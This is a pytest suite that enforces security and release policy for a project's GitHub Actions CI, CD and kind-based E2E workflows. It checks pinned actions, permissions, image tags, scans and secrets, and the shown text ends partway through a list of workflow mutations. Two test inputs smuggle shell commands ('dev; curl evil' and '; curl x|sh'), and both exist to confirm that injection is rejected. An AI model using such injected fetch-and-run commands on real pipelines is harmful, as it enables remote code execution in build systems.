"""What the CI, CD and E2E workflows must do (docs/CI_CD.md): triggers, least-privilege
permissions, pinned actions with valid inputs, concurrency, the image tag rules, the scans, the secrets, and
that the CD workflow's deploy steps are scripts/deploy.sh -- run here, out of cd.yml itself,
against the helm/kubectl/smoke doubles. The E2E workflow only calls tests/e2e/kind.sh (a kind
cluster cannot run here): its rules, the pinned versions and the drills the script must hold are
checked by policy functions, and each rule is shown to reject a broken copy.

actionlint cannot check the inputs of actions pinned to a commit, so fixtures/action-metadata.json
records, for each pinned commit, the inputs of its action.yml (read from the action's repository
at that commit) and every `with:` is checked against it.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import re
import shutil
import subprocess

import pytest
import yaml

import cicd_support as cs
import scenarios as sc

WF_DIR = cs.REPO / ".github" / "workflows"
METADATA = json.loads((cs.HERE / "fixtures" / "action-metadata.json").read_text())
SHA_PIN = re.compile(r"^([\w.-]+/[\w.-]+)@([0-9a-f]{40})$")


def load(name):
    text = (WF_DIR / name).read_text()
    doc = yaml.safe_load(text)
    doc["on"] = doc.pop(True, doc.get("on"))  # YAML 1.1 reads `on:` as true
    return doc, text


CI, CI_TEXT = load("ci.yml")
CD, CD_TEXT = load("cd.yml")
E2E, E2E_TEXT = load("e2e.yml")
WORKFLOWS = (("ci.yml", CI), ("cd.yml", CD), ("e2e.yml", E2E))


def steps(doc, job):
    return doc["jobs"][job]["steps"]


def uses(doc, job, action):
    return [s for s in steps(doc, job) if s.get("uses", "").lower().startswith(action + "@")]


def all_steps():
    for name, doc in WORKFLOWS:
        for job_id, job in doc["jobs"].items():
            for step in job.get("steps", []):
                yield name, job_id, step


# --- pins, inputs, scripts ------------------------------------------------------------------------
def test_every_action_is_pinned_to_a_known_commit_with_its_version():
    text = CI_TEXT + CD_TEXT + E2E_TEXT
    for name, job, step in all_steps():
        if "uses" not in step:
            continue
        m = SHA_PIN.match(step["uses"])
        assert m, f"{name} {job}: {step['uses']} is not pinned to a full commit SHA"
        action, sha = m.group(1).lower(), m.group(2)
        assert action in METADATA, f"{action} is not in fixtures/action-metadata.json"
        meta = METADATA[action]
        assert sha == meta["sha"], f"{action}@{sha} is not the recorded {meta['version']} commit"
        assert re.search(rf"{re.escape(step['uses'])}  # {re.escape(meta['version'])}\n", text), \
            f"{step['uses']} lacks its '# {meta['version']}' comment"


def test_action_inputs_exist_and_required_ones_are_given():
    for name, job, step in all_steps():
        if "uses" not in step:
            continue
        action = step["uses"].split("@")[0].lower()
        meta = METADATA[action]
        given = set((step.get("with") or {}).keys())
        unknown = given - set(meta["inputs"])
        assert not unknown, f"{name} {job}: {action} has no input(s) {unknown}"
        missing = set(meta["required"]) - given
        assert not missing, f"{name} {job}: {action} needs {missing}"


def test_no_expression_is_expanded_inside_a_script():
    """Values reach run: blocks through env only (no script injection, shellcheck sees them)."""
    for name, job, step in all_steps():
        if "run" in step:
            assert "${{" not in step["run"], f"{name} {job} {step.get('name')}: ${{{{ }}}} in run:"


def test_every_job_has_a_timeout_and_least_privilege_permissions():
    allowed = {
        ("ci.yml", "lint"): {"contents": "read"},
        ("ci.yml", "test"): {"contents": "read"},
        ("ci.yml", "images"): {"contents": "read"},
        ("ci.yml", "scan-repo"): {"contents": "read"},
        ("ci.yml", "publish"): {"contents": "read", "packages": "write", "id-token": "write",
                                "attestations": "write"},
        ("ci.yml", "release-latest"): {"packages": "write"},
        ("cd.yml", "deploy"): {"contents": "read", "packages": "read"},
        ("e2e.yml", "kind"): {"contents": "read"},
    }
    for name, doc in WORKFLOWS:
        assert doc["permissions"] == {}, f"{name}: the default token must have no permission"
        for job_id, job in doc["jobs"].items():
            assert job.get("permissions") == allowed[(name, job_id)], f"{name} {job_id}"
            assert 0 < job.get("timeout-minutes", 0) <= 90, f"{name} {job_id}: timeout-minutes"


def test_checkouts_keep_no_credentials():
    for name, job, step in all_steps():
        if step.get("uses", "").startswith("actions/checkout@"):
            assert step["with"]["persist-credentials"] is False, f"{name} {job}"


# --- CI ------------------------------------------------------------------------------------------------
def test_ci_triggers():
    on = CI["on"]
    assert on["push"]["branches"] == ["main", "develop"]
    assert on["push"]["tags"] == ["v*.*.*"]
    assert on["pull_request"]["branches"] == ["main"]
    assert on["release"]["types"] == ["published"]


def test_ci_cancels_superseded_runs():
    c = CI["concurrency"]
    assert c["cancel-in-progress"] is True
    assert "github.ref" in c["group"] and "pull_request.number" in c["group"]
    assert "github.event_name" in c["group"], "a tag push and its release must not cancel each other"


def test_ci_lint_job_runs_every_linter():
    runs = "\n".join(s.get("run", "") for s in steps(CI, "lint"))
    for needle in ("make lint", "yamllint --strict .", "make helm-lint HELM=tools/bin/helm",
                   "make helm-lint HELM=tools/bin/helm3", "test_workflow_lint.py",
                   "test_static_lint.py", "scripts/install-tools.sh"):
        assert needle in runs, needle
    lint_sh = (cs.REPO / "scripts" / "lint.sh").read_text()
    assert "clang-format" in lint_sh and "clang-tidy" in lint_sh and "shellcheck" in lint_sh


def test_ci_test_job_runs_make_test_and_uploads_ctest_output_on_failure():
    job = steps(CI, "test")
    runs = [s.get("run", "").strip() for s in job]
    # Everything but the image and chart-pods tests, which need rootful Podman (not available in a
    # job container).
    assert "make test CTEST_ARGS='--label-exclude \"images|deploy\"'" in runs, runs
    upload = uses(CI, "test", "actions/upload-artifact")
    assert upload and upload[0]["if"] == "failure()"
    assert "build/release/Testing/Temporary/" in upload[0]["with"]["path"]


@pytest.mark.parametrize("job", ["images", "publish"])
def test_ci_builds_both_images_with_buildx_and_layer_cache(job):
    assert CI["jobs"][job]["strategy"]["matrix"]["image"] == ["api", "worker"]
    assert uses(CI, job, "docker/setup-buildx-action")
    build = [s for s in uses(CI, job, "docker/build-push-action")]
    assert build
    for b in build:
        w = b["with"]
        assert w["target"] == "${{ matrix.image }}" and w["file"] == "Dockerfile"
        assert w["cache-from"].startswith("type=gha") and w["cache-to"].startswith("type=gha,mode=max")
        assert "org.opencontainers" not in w["labels"], "labels come from docker/metadata-action"
        assert w["labels"] == "${{ steps.meta.outputs.labels }}"
    assert 'docker/metadata-action' in yaml.safe_dump(CI["jobs"][job])


def test_dockerfile_has_the_targets_ci_builds():
    dockerfile = (cs.REPO / "Dockerfile").read_text()
    for target in ("api", "worker"):
        assert re.search(rf"^FROM .* AS {target}$", dockerfile, re.M), target
    for arg in ("VERSION", "REVISION", "SOURCE"):
        assert f"ARG {arg}" in dockerfile


def test_trivy_fails_on_high_and_critical_for_images_and_the_repository():
    image_scan = uses(CI, "images", "aquasecurity/trivy-action")[0]["with"]
    assert image_scan["scan-type"] == "image" and image_scan["image-ref"] == "october-${{ matrix.image }}:scan"
    fs_scan = uses(CI, "scan-repo", "aquasecurity/trivy-action")[0]["with"]
    assert fs_scan["scan-type"] == "fs" and "misconfig" in fs_scan["scanners"]
    for scan in (image_scan, fs_scan):
        assert scan["severity"] == "HIGH,CRITICAL" and scan["exit-code"] == "1"


def test_publish_only_from_main_develop_and_tags_after_every_check():
    job = CI["jobs"]["publish"]
    assert set(job["needs"]) == {"lint", "test", "images", "scan-repo"}
    cond = " ".join(job["if"].split())
    assert "github.event_name == 'push'" in cond
    for ref in ("github.ref == 'refs/heads/main'", "github.ref == 'refs/heads/develop'",
                "startsWith(github.ref, 'refs/tags/v')"):
        assert ref in cond
    for other in ("lint", "test", "images", "scan-repo"):
        assert CI["jobs"][other]["if"] == "github.event_name != 'release'"


def test_publish_tags_labels_sbom_and_provenance():
    meta = uses(CI, "publish", "docker/metadata-action")[0]["with"]
    tags = [t.strip() for t in meta["tags"].splitlines() if t.strip()]
    assert "type=sha,prefix=sha-,format=short" in tags           # :sha-<7>, immutable
    assert "type=raw,value=dev,enable={{is_default_branch}}" in tags  # :dev from main
    assert "type=semver,pattern=v{{version}}" in tags            # :vX.Y.Z on a semver tag
    assert meta["flavor"] == "latest=false", ":latest only on a release"
    build = uses(CI, "publish", "docker/build-push-action")[0]["with"]
    assert build["push"] is True and build["sbom"] is True and build["provenance"] == "mode=max"
    assert build["annotations"] == "${{ steps.meta.outputs.annotations }}"
    attest = uses(CI, "publish", "actions/attest-build-provenance")[0]["with"]
    assert attest["push-to-registry"] is True
    assert attest["subject-digest"] == "${{ steps.build.outputs.digest }}"
    login = uses(CI, "publish", "docker/login-action")[0]["with"]
    assert login == {"registry": "ghcr.io", "username": "${{ github.actor }}",
                     "password": "${{ secrets.GITHUB_TOKEN }}"}


def test_immutable_tags_are_never_overwritten():
    plan = next(s for s in steps(CI, "publish") if s.get("id") == "plan")["run"]
    assert "docker buildx imagetools inspect" in plan and "Immutable tag" in plan
    build = next(s for s in steps(CI, "publish") if s.get("id") == "build")
    assert build["if"] == "steps.plan.outputs.mode == 'build'"


def test_latest_only_on_a_published_release():
    job = CI["jobs"]["release-latest"]
    assert job["if"] == "github.event_name == 'release' && !github.event.release.prerelease"
    run = "\n".join(s.get("run", "") for s in job["steps"])
    assert 'imagetools create --tag "$repository:latest" "$repository:$VERSION"' in run


# --- CD ------------------------------------------------------------------------------------------------
def test_cd_triggers_after_ci_on_main_and_by_hand():
    on = CD["on"]
    assert on["workflow_run"] == {"workflows": [CI["name"]], "types": ["completed"],
                                  "branches": ["main"]}
    assert on["workflow_dispatch"]["inputs"]["image-tag"]["type"] == "string"
    cond = " ".join(CD["jobs"]["deploy"]["if"].split())
    assert "github.event.workflow_run.conclusion == 'success'" in cond
    assert "github.event.workflow_run.event == 'push'" in cond
    assert "head_repository.full_name == github.repository" in cond


def test_cd_never_cancels_a_deploy_halfway():
    assert CD["concurrency"]["cancel-in-progress"] is False


def test_cd_checks_the_secrets_first():
    job = CD["jobs"]["deploy"]
    first = job["steps"][1]  # right after the checkout
    assert first["run"].startswith("bash scripts/deploy.sh ci-setup")
    assert first["env"] == {"DEV_KUBECONFIG": "${{ secrets.DEV_KUBECONFIG }}"}
    assert "DEV_KUBECONFIG" not in yaml.safe_dump(job["env"]), "the kubeconfig stays in one step"
    assert job["env"] == {"DEV_NAMESPACE": "${{ secrets.DEV_NAMESPACE }}",
                          "DEV_INGRESS_HOST": "${{ secrets.DEV_INGRESS_HOST }}"}


def test_cd_pins_helm_and_kubectl_and_uploads_diagnostics():
    assert re.fullmatch(r"v4\.\d+\.\d+", CD["env"]["HELM_VERSION"])
    assert re.fullmatch(r"v1\.\d+\.\d+", CD["env"]["KUBECTL_VERSION"])
    upload = uses(CD, "deploy", "actions/upload-artifact")[0]
    assert upload["if"] == "failure()" and upload["with"]["path"] == "deploy-out/"


def _step(name_part):
    return next(s for s in steps(CD, "deploy") if name_part in s.get("name", ""))


@pytest.fixture
def cd_sandbox(tmp_path):
    """A copy of the delivery scripts with the fixture chart at deploy/helm/api, so cd.yml's own
    commands can run (their relative paths included) without touching the repository."""
    root = tmp_path / "workspace"
    (root / "scripts" / "lib").mkdir(parents=True)
    for script in ("deploy.sh", "diagnostics.sh", "lib/report.sh"):
        shutil.copy2(cs.REPO / "scripts" / script, root / "scripts" / script)
    shutil.copytree(cs.REPO / cs.FIXTURE_CHART, root / "deploy" / "helm" / "api")
    return root


def run_cd_step(tmp_path, root, script, step, env):
    command = ["bash", "-eo", "pipefail", "-c", step["run"]]
    bin_dir = tmp_path / "doubles-bin"
    state = tmp_path / "double-state"
    state.mkdir(exist_ok=True)
    (state / "script.json").write_text(json.dumps(script.calls))
    cs.make_bin(tmp_path)
    full_env = cs.clean_env({"PATH": f"{bin_dir}:{os.environ['PATH']}", "FAKE_STATE": str(state),
                             "SMOKE_SCRIPT": str(bin_dir / "smoke"), **env})
    proc = subprocess.run(command, cwd=root, env=full_env, capture_output=True, text=True,
                          timeout=120)
    errors = (state / "errors.txt").read_text() if (state / "errors.txt").exists() else ""
    cursor = int((state / "cursor").read_text()) if (state / "cursor").exists() else 0
    return proc, errors, script.calls[cursor:]


def test_cd_deploy_step_is_the_deploy_script(tmp_path, cd_sandbox):
    """cd.yml's deploy command, run as GitHub would, makes exactly the calls of an atomic deploy."""
    s = cs.Script(helm_major=4, chart="deploy/helm/api")
    v = s.values(sc.HOST, sc.REGISTRY, sc.TAG)
    s.version().lint(v).template(v).history(sc.HISTORY_BEFORE).upgrade(v, atomic=True)
    s.history(sc.HISTORY_AFTER).smoke(sc.HOST)
    summary = tmp_path / "summary.md"
    proc, errors, pending = run_cd_step(tmp_path, cd_sandbox, s, _step("Deploy ("), {
        "GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary),
        "DEV_NAMESPACE": "october", "DEV_INGRESS_HOST": sc.HOST, "REGISTRY": sc.REGISTRY,
        "IMAGE_TAG": sc.TAG})
    assert not errors and not pending, f"{errors}\n{pending}\n{proc.stdout}\n{proc.stderr}"
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "Deploy of `app` to `october`: deployed" in summary.read_text()
    assert (cd_sandbox / "deploy-out" / "rendered-app.yaml").is_file()


def test_cd_secrets_step_fails_clearly_without_secrets(tmp_path, cd_sandbox):
    proc, errors, _ = run_cd_step(tmp_path, cd_sandbox, cs.Script(), steps(CD, "deploy")[1], {
        "GITHUB_ACTIONS": "true", "RUNNER_TEMP": str(tmp_path)})
    assert not errors
    assert proc.returncode != 0
    for name in ("DEV_KUBECONFIG", "DEV_NAMESPACE", "DEV_INGRESS_HOST"):
        assert f"::error title=deploy::secret {name} is missing or empty" in proc.stdout


def test_cd_secrets_step_writes_the_kubeconfig(tmp_path, cd_sandbox):
    config = "apiVersion: v1\nkind: Config\nclusters:\n- name: dev\n  cluster:\n    server: https://127.0.0.1:6443\n"
    github_env = tmp_path / "github-env"
    proc, errors, _ = run_cd_step(tmp_path, cd_sandbox, cs.Script(), steps(CD, "deploy")[1], {
        "GITHUB_ACTIONS": "true", "RUNNER_TEMP": str(tmp_path), "GITHUB_ENV": str(github_env),
        "DEV_KUBECONFIG": base64.b64encode(config.encode()).decode(),
        "DEV_NAMESPACE": "october", "DEV_INGRESS_HOST": sc.HOST})
    assert not errors and proc.returncode == 0, proc.stdout + proc.stderr
    assert github_env.read_text() == f"KUBECONFIG={tmp_path}/kubeconfig\n"
    assert (tmp_path / "kubeconfig").read_text() == config


@pytest.mark.parametrize("event, extra, tag", [
    ("workflow_run", {"HEAD_SHA": "abc1234def5678"}, "sha-abc1234"),
    ("workflow_dispatch", {"INPUT_TAG": "v1.2.3"}, "v1.2.3"),
])
def test_cd_image_choice(tmp_path, cd_sandbox, event, extra, tag):
    out = tmp_path / "github-output"
    proc, _, _ = run_cd_step(tmp_path, cd_sandbox, cs.Script(), _step("Choose the images"), {
        "GITHUB_EVENT_NAME": event, "GITHUB_OUTPUT": str(out), "OWNER": "Acme", **extra})
    assert proc.returncode == 0, proc.stderr
    assert out.read_text() == f"tag={tag}\nregistry=ghcr.io/acme\n"


def test_cd_rejects_a_bad_image_tag_input(tmp_path, cd_sandbox):
    proc, _, _ = run_cd_step(tmp_path, cd_sandbox, cs.Script(), _step("Choose the images"), {
        "GITHUB_EVENT_NAME": "workflow_dispatch", "GITHUB_OUTPUT": str(tmp_path / "o"),
        "OWNER": "acme", "INPUT_TAG": "dev; curl evil"})
    assert proc.returncode != 0 and "is not an image tag" in proc.stdout


# --- E2E on kind -----------------------------------------------------------------------------------
# e2e.yml runs on GitHub's runners only (Docker + kind); here its rules are policy functions that
# return what is wrong, checked on the real files and on broken copies of them (each rule must
# reject its broken copy, so none of them passes vacuously).
E2E_OUT = "build/e2e"
E2E_RUNS = {
    "versions": re.compile(r'bash tests/e2e/kind\.sh versions >>"\$GITHUB_OUTPUT"'),
    "e2e": re.compile(r"make e2e-kind( E2E_ARGS='[-a-z0-9/ ,.=~]*')?"),
}
# The cache of the pinned kind binary and node image: keyed on the pins and the runner.
E2E_CACHE_KEY_PARTS = ("hashFiles('tests/e2e/versions.env')", "runner.os", "runner.arch")
E2E_VERSION_KEYS = {"KIND_VERSION", "KIND_NODE_IMAGE", "KIND_SHA256_LINUX_AMD64",
                    "KIND_SHA256_LINUX_ARM64", "KUBECTL_VERSION", "HELM_VERSION",
                    "METRICS_SERVER_VERSION"}
NODE_IMAGE = re.compile(r"kindest/node:v1\.(\d+)\.(\d+)@sha256:[0-9a-f]{64}")
SEMVER = re.compile(r"v\d+\.\d+\.\d+")
E2E_DRILLS = ["helm-test", "smoke", "bad-release", "worker-kill", "hpa"]
# What tests/e2e/kind.sh must do, as the code that does it.
E2E_SCRIPT_MUST = {
    "strict mode": "\nset -euo pipefail\n",
    "reads the pinned versions": "versions_file=tests/e2e/versions.env",
    "builds both images with docker/build-images.sh": "bash docker/build-images.sh",
    "creates the cluster from the pinned node image": 'kind create cluster --name "$cluster" --image "$kind_image"',
    "the node image kind gets is the pin unless a checked cache says otherwise": "kind_image=$kind_node_image",
    "the node image prepared before the build": "  node_image\n  build_images\n",
    "the cached node image loaded (docker/podman load)": '"$engine" load -i "$archive"',
    "the pulled node image saved to the cache (docker/podman save)": '"$engine" save -o "$archive.partial" "$tagged"',
    "the node image pulled by its pinned digest": '"$engine" pull "$repo@$pinned_digest"',
    "the cached archive's recorded digest checked against the pin": '${BASH_REMATCH[2]} == "$pinned_digest"',
    "the loaded image's ID checked against the recorded one": 'if [[ "$engine $id" == "$saved_id" ]]; then',
    "the cache only used when it was saved for the pin": '$saved_ref == "$kind_node_image"',
    "the cached kind binary checked against its pinned SHA-256": '$(sha256_of "$cached") == "$sha"',
    "kind load (Docker)": "kind load docker-image",
    "kind load (Podman, through an archive)": "kind load image-archive",
    "Podman as kind's provider": "KIND_EXPERIMENTAL_PROVIDER=podman",
    "metrics-server for kind": "--kubelet-insecure-tls",
    "deploys with the CD script": "GITHUB_STEP_SUMMARY='' GITHUB_OUTPUT='' bash scripts/deploy.sh",
    "an atomic deploy as CD runs it": "deploy_sh deploy --atomic",
    "local images, never pulled": "--set image.pullPolicy=Never",
    "helm test with logs": 'helm test "$release" --namespace "$namespace" --logs',
    "smoke through a port-forward": "smoke --smoke-via port-forward",
    "the bad release": "--set api.config.FAIL_HEALTHZ=true",
    "expects the bad release to fail": "((rc == 1))",
    "rollback asserted from helm history": '"Rollback to $good"',
    "the previous revision's manifest serves": 'helm get manifest "$release" --namespace "$namespace" --revision "$good"',
    "smoke again after the rollback": 'smoke "after-bad-release-$2"',
    "slow tasks through POST /tasks": '"$base/tasks"',
    "the worker pod deleted mid-batch": 'kns delete pod "${old_pods[@]}"',
    "results counted in Redis": "celery-task-meta-",
    "each task run exactly once": '[[ ${runs:-0} == 1 ]]',
    "/burn load in the cluster": "/burn?seconds=",
    "HPA above 1 replica in bounded time": "((SECONDS - start < hpa_timeout))",
    "diagnostics on failure": "bash scripts/diagnostics.sh",
    "one exit trap": "trap on_exit EXIT",
    "the cluster deleted unless --keep": 'kind delete cluster --name "$cluster"',
    "the kind binary checked against its pinned SHA-256": '!= "$sha"',
    "traffic from this machine on loopback only": "port-forward --address 127.0.0.1",
}


def e2e_workflow_problems(doc) -> list[str]:
    problems = []
    on = doc.get("on")
    if on != {"pull_request": {"branches": ["main"]}, "push": {"branches": ["main"]}}:
        problems.append(f"triggers must be pull_request and push to main, nothing else: {on}")
    if doc.get("permissions") != {}:
        problems.append("top-level permissions must be {}")
    if (doc.get("concurrency") or {}).get("cancel-in-progress") is not True:
        problems.append("concurrency must cancel superseded runs")
    if re.search(r"kindest/node:v\d+\.\d+\.\d+", yaml.safe_dump(doc)):
        problems.append("a node image in the workflow: tests/e2e/versions.env is the one place")
    jobs = doc.get("jobs") or {}
    if list(jobs) != ["kind"]:
        problems.append(f"one job, kind: {list(jobs)}")
    for job_id, job in jobs.items():
        if job.get("permissions") != {"contents": "read"}:
            problems.append(f"{job_id}: permissions must be contents: read only: {job.get('permissions')}")
        minutes = job.get("timeout-minutes")
        if not isinstance(minutes, int) or not 0 < minutes <= 90:
            problems.append(f"{job_id}: timeout-minutes must be set, at most 90: {minutes}")
        job_steps = job.get("steps") or []
        for index, step in enumerate(job_steps):
            label = f"{job_id} step {index} ({step.get('name') or step.get('uses')})"
            if "uses" in step:
                m = SHA_PIN.match(step["uses"])
                if not m or METADATA.get(m.group(1).lower(), {}).get("sha") != m.group(2):
                    problems.append(f"{label}: {step['uses']} is not pinned to a recorded commit")
            if "run" in step and not any(p.fullmatch(step["run"].strip()) for p in E2E_RUNS.values()):
                problems.append(f"{label}: runs {step['run'].strip()!r}; the workflow may only call "
                                f"tests/e2e/kind.sh (make e2e-kind): the drills live in the script")
        runs = [i for i, s in enumerate(job_steps) if E2E_RUNS["e2e"].fullmatch(s.get("run", "").strip())]
        if len(runs) != 1:
            problems.append(f"{job_id}: exactly one make e2e-kind step, found {len(runs)}")
        else:
            e2e_run = job_steps[runs[0]]["run"]
            if f"--out {E2E_OUT}" not in e2e_run:
                problems.append(f"{job_id}: make e2e-kind must write to --out {E2E_OUT} (the artifact)")
            if "--install-kind" not in e2e_run:
                problems.append(f"{job_id}: kind must be the pinned binary (--install-kind)")
        problems += e2e_cache_problems(job_id, job_steps, runs)
        uploads = [i for i, s in enumerate(job_steps)
                   if s.get("uses", "").startswith("actions/upload-artifact@")]
        upload = job_steps[uploads[0]] if len(uploads) == 1 else {}
        if upload.get("if") != "failure()" or (upload.get("with") or {}).get("path") != f"{E2E_OUT}/":
            problems.append(f"{job_id}: diagnostics must be uploaded once, if: failure(), from {E2E_OUT}/")
        elif runs and uploads[0] < runs[0]:
            problems.append(f"{job_id}: the upload must come after make e2e-kind")
        versions = [s for s in job_steps if s.get("id") == "versions"]
        if not versions or not E2E_RUNS["versions"].fullmatch(versions[0].get("run", "").strip()):
            problems.append(f"{job_id}: a step with id versions must print tests/e2e/versions.env")
        for action, output in (("azure/setup-kubectl", "kubectl-version"),
                               ("azure/setup-helm", "helm-version")):
            found = [s for s in job_steps if s.get("uses", "").startswith(action + "@")]
            wanted = "${{ steps.versions.outputs." + output + " }}"
            if len(found) != 1 or (found[0].get("with") or {}).get("version") != wanted:
                problems.append(f"{job_id}: {action} must take its version from tests/e2e/versions.env ({wanted})")
    return problems


def e2e_cache_problems(job_id: str, job_steps: list, runs: list[int]) -> list[str]:
    """One actions/cache step before make e2e-kind, keyed on the pins (versions.env) and the
    runner, without restore-keys, whose path is the script's --cache-dir."""
    caches = [i for i, s in enumerate(job_steps) if s.get("uses", "").startswith("actions/cache@")]
    if len(caches) != 1:
        return [f"{job_id}: exactly one actions/cache step (kind and the node image), found {len(caches)}"]
    problems = []
    cache = job_steps[caches[0]]
    given = cache.get("with") or {}
    key = str(given.get("key", ""))
    missing = [part for part in E2E_CACHE_KEY_PARTS if part not in key]
    if missing:
        problems.append(f"{job_id}: the actions/cache key must include {missing} (a pin change must "
                        f"invalidate it): {key!r}")
    if "restore-keys" in given:
        problems.append(f"{job_id}: actions/cache must not have restore-keys (they would restore an "
                        "entry saved for other pins)")
    if len(runs) == 1:
        if caches[0] > runs[0]:
            problems.append(f"{job_id}: the actions/cache step must come before make e2e-kind")
        m = re.search(r"--cache-dir (\S+)", job_steps[runs[0]]["run"])
        if not m:
            problems.append(f"{job_id}: make e2e-kind must pass --cache-dir (the actions/cache path)")
        elif m.group(1) != str(given.get("path", "")).strip():
            problems.append(f"{job_id}: actions/cache path {given.get('path')!r} is not the script's "
                            f"--cache-dir {m.group(1)!r}")
    return problems


def chart_minor_range() -> tuple[int, int]:
    """The oldest and the newest Kubernetes 1.x minor of Chart.yaml's kubeVersion
    (">=1.A.0-0 <1.B.0-0" claims A to B-1)."""
    chart = yaml.safe_load((cs.REPO / "deploy" / "helm" / "api" / "Chart.yaml").read_text())
    m = re.fullmatch(r">=\s*1\.(\d+)\S*\s+<\s*1\.(\d+)\S*", chart["kubeVersion"])
    assert m, f"Chart.yaml kubeVersion {chart['kubeVersion']!r} needs a lower and an upper bound"
    return int(m.group(1)), int(m.group(2)) - 1


def e2e_versions_problems(values: dict) -> list[str]:
    problems = []
    if set(values) != E2E_VERSION_KEYS:
        problems.append(f"versions.env keys must be {sorted(E2E_VERSION_KEYS)}: {sorted(values)}")
    image = values.get("KIND_NODE_IMAGE", "")
    m = NODE_IMAGE.fullmatch(image)
    if not m:
        problems.append(f"KIND_NODE_IMAGE {image!r} must be pinned by version AND digest "
                        f"(kindest/node:vX.Y.Z@sha256:<64 hex>)")
    elif int(m.group(1)) < chart_minor_range()[0]:
        problems.append(f"KIND_NODE_IMAGE 1.{m.group(1)} is below the chart's kubeVersion")
    elif int(m.group(1)) != chart_minor_range()[1]:
        problems.append(f"KIND_NODE_IMAGE 1.{m.group(1)} is not the newest minor of the chart's "
                        f"kubeVersion (1.{chart_minor_range()[1]})")
    kubectl_minor = re.fullmatch(r"v1\.(\d+)\.\d+", values.get("KUBECTL_VERSION", ""))
    if m and (not kubectl_minor or kubectl_minor.group(1) != m.group(1)):
        problems.append(f"KUBECTL_VERSION {values.get('KUBECTL_VERSION')!r} must be the node's minor 1.{m.group(1)}")
    for key in ("KIND_VERSION", "KUBECTL_VERSION", "HELM_VERSION", "METRICS_SERVER_VERSION"):
        if not SEMVER.fullmatch(values.get(key, "")):
            problems.append(f"{key} {values.get(key)!r} must be vX.Y.Z")
    for key in ("KIND_SHA256_LINUX_AMD64", "KIND_SHA256_LINUX_ARM64"):
        if not re.fullmatch(r"[0-9a-f]{64}", values.get(key, "")):
            problems.append(f"{key} must be a SHA-256")
    if values.get("HELM_VERSION") != CD["env"]["HELM_VERSION"]:
        problems.append(f"HELM_VERSION {values.get('HELM_VERSION')} is not the CD workflow's "
                        f"{CD['env']['HELM_VERSION']}")
    return problems


def e2e_script_problems(text: str) -> list[str]:
    problems = [f"tests/e2e/kind.sh lacks {what} ({needle.strip()!r})"
                for what, needle in E2E_SCRIPT_MUST.items() if needle not in text]
    if f"all_drills=({' '.join(E2E_DRILLS)})" not in text:
        problems.append(f"tests/e2e/kind.sh must run the drills {E2E_DRILLS} by default")
    for drill in E2E_DRILLS:
        function = "drill_" + drill.replace("-", "_")
        if f"if wants {drill}; then {function}; fi" not in text or f"\n{function}() {{" not in text:
            problems.append(f"tests/e2e/kind.sh does not run the {drill} drill ({function})")
    if re.search(r"kindest/node:v\d+\.\d+\.\d+", text):
        problems.append("a node image in tests/e2e/kind.sh: tests/e2e/versions.env is the one place")
    return problems


E2E_SCRIPT_TEXT = (cs.REPO / cs.E2E_SCRIPT).read_text()


def test_e2e_workflow_follows_the_policy():
    assert e2e_workflow_problems(E2E) == []


def test_e2e_pinned_versions_follow_the_policy():
    values = cs.e2e_versions()
    assert e2e_versions_problems(values) == []
    # The newest minor the chart claims (and validates offline): 1.36, from kind v0.33.0's list.
    assert NODE_IMAGE.fullmatch(values["KIND_NODE_IMAGE"]).group(1) == "36"


def test_e2e_script_holds_every_drill():
    assert e2e_script_problems(E2E_SCRIPT_TEXT) == []


def _set(path, value):
    def mutate(doc):
        *parents, last = path
        node = doc
        for key in parents:
            node = node[key]
        if value is DELETE:
            del node[last]
        else:
            node[last] = value
    return mutate


DELETE = object()
KIND_STEPS = ("jobs", "kind", "steps")


def _e2e_step(doc, prefix):
    return next(s for s in doc["jobs"]["kind"]["steps"]
                if s.get("uses", "").startswith(prefix) or s.get("run", "").startswith(prefix))


def _insert_run(run):
    def mutate(doc):
        doc["jobs"]["kind"]["steps"].insert(3, {"name": "inline", "run": run})
    return mutate


def _edit_step(prefix, key, value):
    def mutate(doc):
        step = _e2e_step(doc, prefix)
        if value is DELETE:
            del step[key]
        else:
            step[key] = value
    return mutate


def _edit_with(prefix, key, value):
    def mutate(doc):
        _e2e_step(doc, prefix)["with"][key] = value
    return mutate


def _move_step(prefix, index):
    def mutate(doc):
        job_steps = doc["jobs"]["kind"]["steps"]
        step = _e2e_step(doc, prefix)
        job_steps.remove(step)
        job_steps.insert(index, step)
    return mutate


E2E_CACHE_KEY = "e2e-kind-${{ runner.os }}-${{ runner.arch }}-${{ hashFiles('tests/e2e/versions.env') }}"


def _drop_step(prefix):
    def mutate(doc):
        doc["jobs"]["kind"]["steps"].remove(_e2e_step(doc, prefix))
    return mutate


WORKFLOW_MUTATIONS = [
    ("workflow_dispatch too", _set(("on", "workflow_dispatch"), {}), "triggers"),
    ("push to develop", _set(("on", "push"), {"branches": ["main", "develop"]}), "triggers"),
    ("pull requests to any branch", _set(("on", "pull_request"), None), "triggers"),
    ("no push trigger", _set(("on", "push"), DELETE), "triggers"),
    ("action pinned by tag", _edit_step("actions/checkout@", "uses", "actions/checkout@v7.0.1"),
     "not pinned"),
    ("action at an unrecorded commit",
     _edit_step("actions/checkout@", "uses", "actions/checkout@" + "0" * 40), "not pinned"),
    ("drill logic inline", _insert_run("kubectl -n october delete pod -l app.kubernetes.io/component=worker"),
     "may only call"),
    ("helm test inline", _insert_run("helm test app -n october --logs"), "may only call"),
    ("script behind bash -c", _edit_step("make e2e-kind", "run", "bash -c 'make e2e-kind'"),
     "may only call"),
    ("shell injection through E2E_ARGS",
     _edit_step("make e2e-kind", "run", "make e2e-kind E2E_ARGS='--out build/e2e; curl x|sh'"),
     "may only call"),
    ("kind from the runner image", _edit_step("make e2e-kind", "run", "make e2e-kind E2E_ARGS='--out build/e2e'"),
     "--install-kind"),
    ("output elsewhere", _edit_step("make e2e-kind", "run", "make e2e-kind E2E_ARGS='--install-kind'"),
     "--out build/e2e"),
    ("upload always", _edit_step("actions/upload-artifact@", "if", "always()"), "if: failure()"),
    ("upload on every run", _edit_step("actions/upload-artifact@", "if", DELETE), "if: failure()"),
    ("upload of another folder", _edit_with("actions/upload-artifact@", "path", "deploy-out/"),
     "if: failure()"),
    ("no upload", _drop_step("actions/upload-artifact@"), "if: failure()"),
    ("no job timeout", _set(("jobs", "kind", "timeout-minutes"), DELETE), "timeout-minutes"),
    ("six-hour timeout", _set(("jobs", "kind", "timeout-minutes"), 360), "timeout-minutes"),
